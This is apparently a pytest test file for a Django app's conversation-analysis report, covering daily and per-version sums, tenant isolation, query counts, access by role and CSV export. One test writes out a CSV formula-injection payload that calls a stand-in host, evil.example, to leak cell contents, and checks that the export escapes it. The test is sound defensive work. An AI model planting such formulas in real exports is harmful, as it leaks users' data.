"""The report: its sums, its days, its export, and that it costs the same for one conversation and for a hundred."""

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from apps.analysis import work
from apps.analysis.chart import HEIGHT, WIDTH, chart
from apps.analysis.models import Analysis
from apps.analysis.report import Day, Range, report
from apps.common.spreadsheets import cell
from apps.conversations.models import Conversation
from apps.tenants.models import Role, Tenant
from apps.tenants.scope import tenant_scope
from tests.analysis.conftest import NOW, talk
from tests.conftest import make_member

LATER = NOW + work.IDLE
BOOK = ("I want to book an appointment", "Done.", "Perfect, thank you!", "See you.")
WEEK = Range(date(2026, 11, 17), date(2026, 11, 23))
REPORT = "admin:analysis_analysis_report"
EXPORT = "admin:analysis_analysis_export"


@pytest.fixture
def owner(clinic: Tenant) -> Client:
    client = Client()
    client.force_login(make_member("alice@riverside.example", clinic))
    return client


def judged(tenant: Tenant) -> None:
    """Two versions, one visitor content and one angry; and yesterday one more."""
    talk(tenant, *BOOK, version=1, first_word_ms=100)
    talk(tenant, "This is awful, terrible, I want a refund", "Sorry.", version=2, first_word_ms=300)
    talk(tenant, *BOOK, version=2, at=NOW - timedelta(days=1))
    assert work.perform(LATER) == 3


def test_the_sums_by_version_and_by_day(clinic: Tenant) -> None:
    judged(clinic)
    with tenant_scope(clinic.pk):
        found = report(over=WEEK, zone=clinic.zone)
    assert (found.total.conversations, found.total.answered, found.total.resolved) == (3, 3, 2)
    assert found.total.first_word_ms == round((100 * 2 + 300) / 3)
    assert found.is_simulated
    figures = {row.version: row.figures for row in found.rows}
    assert (figures[1].resolved, figures[2].resolved, figures[2].answered) == (1, 1, 2)
    assert figures[1].sentiment is not None
    assert figures[2].sentiment is not None
    assert figures[1].sentiment > figures[2].sentiment
    assert [row.version for row in found.rows] == [2, 1], "the newest first"
    days = {day.date: day for day in found.days}
    assert len(days) == 7
    assert (days[date(2026, 11, 23)].answered, days[date(2026, 11, 22)].answered) == (2, 1)
    assert days[date(2026, 11, 17)].answered == 0
    assert ("book an appointment", 2) in found.topics


def test_the_days_are_those_of_the_business(clinic: Tenant) -> None:
    """03:30 UTC is still the evening before in New York."""
    talk(clinic, *BOOK, at=NOW.replace(day=24, hour=3, minute=30))
    work.perform(NOW + timedelta(days=1))
    with tenant_scope(clinic.pk):
        [day] = [day for day in report(over=WEEK, zone=clinic.zone).days if day.answered]
    assert day.date == date(2026, 11, 23)


def test_nothing_of_another_tenant_is_counted(clinic: Tenant, other_tenant: Tenant) -> None:
    judged(other_tenant)
    with tenant_scope(clinic.pk):
        assert report(over=WEEK, zone=clinic.zone).total.conversations == 0


@time_machine.travel(LATER, tick=False)
def test_pages_take_the_same_queries_for_one_and_for_many(clinic: Tenant, owner: Client) -> None:
    judged(clinic)

    def queries(address: str) -> int:
        with CaptureQueriesContext(
            connection,
        ) as captured:
            assert owner.get(address).status_code == 200
        return len(captured)

    with tenant_scope(clinic.pk):
        conversation = Conversation.objects.first()
    assert conversation is not None
    pages = [reverse(REPORT), reverse(EXPORT), reverse(EXPORT) + "?of=versions"]
    pages += [reverse("admin:analysis_analysis_changelist")]
    pages += [reverse("admin:conversations_conversation_change", args=[conversation.pk])]
    before = [queries(page) for page in pages]
    for version in range(3, 33):
        talk(clinic, *BOOK, version=version)
    assert work.perform(LATER) == 30
    assert [queries(page) for page in pages] == before


@time_machine.travel(LATER, tick=False)
def test_the_page_shows_charts_and_the_same_numbers_in_tables(clinic: Tenant, owner: Client) -> None:
    judged(clinic)
    page = owner.get(reverse(REPORT)).content.decode()
    assert "Simulated." in page
    assert page.count("<rect") == 2 * 30
    assert '<time datetime="2026-11-23">Mon, Nov 23</time></th><td>2</td><td>1</td>' in page
    assert ">Analysis</span>" in page or "Analysis" in page
    empty = owner.get(reverse(REPORT), {"first": "2026-01-01", "last": "2026-01-31"}).content.decode()
    assert "Nothing to show for these days" in empty


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ({"first": "2026-12-01", "last": "2026-11-01"}, "The first day is after the last one."),
        ({"first": "2024-01-01", "last": "2026-11-01"}, "Choose at most a year."),
        ({"first": "nonsense"}, "From: Enter a valid date."),
    ],
)
def test_a_wrong_range_says_what_is_wrong(clinic: Tenant, owner: Client, query: dict[str, str], said: str) -> None:
    page = owner.get(reverse(REPORT), query)
    assert page.status_code == 200
    assert said in page.content.decode()


@time_machine.travel(LATER, tick=False)
def test_the_conversation_shows_its_analysis_as_simulated(clinic: Tenant, owner: Client) -> None:
    judged(clinic)
    with tenant_scope(clinic.pk):
        analysis = Analysis.objects.filter(escalation=True).get()
    address = reverse("admin:conversations_conversation_change", args=[analysis.conversation_id])
    page = owner.get(address).content.decode()
    assert analysis.summary.replace("'", "&#x27;") in page
    assert "Needs a look." in page
    assert "Simulated: words counted" in page
    listed = owner.get(reverse("admin:analysis_analysis_changelist")).content.decode()
    assert "Complain" in listed
    assert owner.get(reverse("admin:analysis_analysis_change", args=[analysis.pk]))["Location"] == address


def test_managers_see_the_report_and_staff_do_not(clinic: Tenant, owner: Client) -> None:
    for role, status in ((Role.MANAGER, 200), (Role.STAFF, 403)):
        client = Client()
        client.force_login(make_member(f"{role}@riverside.example", clinic, role))
        for name in (REPORT, EXPORT):
            assert client.get(reverse(name)).status_code == status


def lines_of(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@time_machine.travel(LATER, tick=False)
def test_the_export_has_the_conversations_and_the_versions(clinic: Tenant, owner: Client) -> None:
    judged(clinic)
    response = owner.get(reverse(EXPORT))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "conversations-2026-10-25-2026-11-23.csv" in response["Content-Disposition"]
    rows = lines_of(response)
    assert len(rows) == 3
    assert {row["judged by"] for row in rows} == {"words counted (simulated)"}
    assert rows[0]["ended"] == "2026-11-23 12:00", "by the clock of the business"
    versions = lines_of(owner.get(reverse(EXPORT), {"of": "versions"}))
    assert [(row["version"], row["answered"]) for row in versions] == [("2", "2"), ("1", "1")]
    assert len(lines_of(owner.get(reverse(EXPORT), {"first": "2026-11-23"}))) == 2


@pytest.mark.django_db(transaction=True)
def test_no_cell_is_a_formula(clinic: Tenant, owner: Client) -> None:
    judged(clinic)
    evil = '=HYPERLINK("http://evil.example?"&A1)'
    with tenant_scope(clinic.pk):
        Analysis.objects.update(intent=evil[:80], summary="@SUM(1)", topics=["+1", "-2"], sentiment=-0.5)
    for row in lines_of(owner.get(reverse(EXPORT), {"first": "2026-11-01", "last": "2026-11-30"})):
        assert row["intent"] == f"'{evil}"
        assert row["summary"] == "'@SUM(1)"
        assert row["topics"] == "'+1; -2"
        assert row["sentiment"] == "-0.5", "a number stays one"


@pytest.mark.once
@given(st.text(max_size=20))
def test_a_cell_never_begins_a_formula(text: str) -> None:
    assert not str(cell(text)).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert str(cell(text)).removeprefix("'") in (text, text.removeprefix("'"))


@pytest.mark.once
@given(st.lists(st.integers(0, 5_000), min_size=1, max_size=366))
def test_a_chart_stays_within_its_frame(counts: list[int]) -> None:
    days = [Day(date(2026, 1, 1) + timedelta(days=n), count, count // 2) for n, count in enumerate(counts)]
    drawn = chart(days)
    for bar in drawn.bars:
        assert bar.x >= 0
        assert bar.x + bar.width <= WIDTH
        assert 0 <= bar.answered_y <= bar.resolved_y <= drawn.ground < HEIGHT
        assert bar.answered_y + bar.answered_height == pytest.approx(drawn.ground)
    assert [line.value for line in drawn.grid] == sorted({line.value for line in drawn.grid})
    assert sum(bool(bar.label) for bar in drawn.bars) <= 8
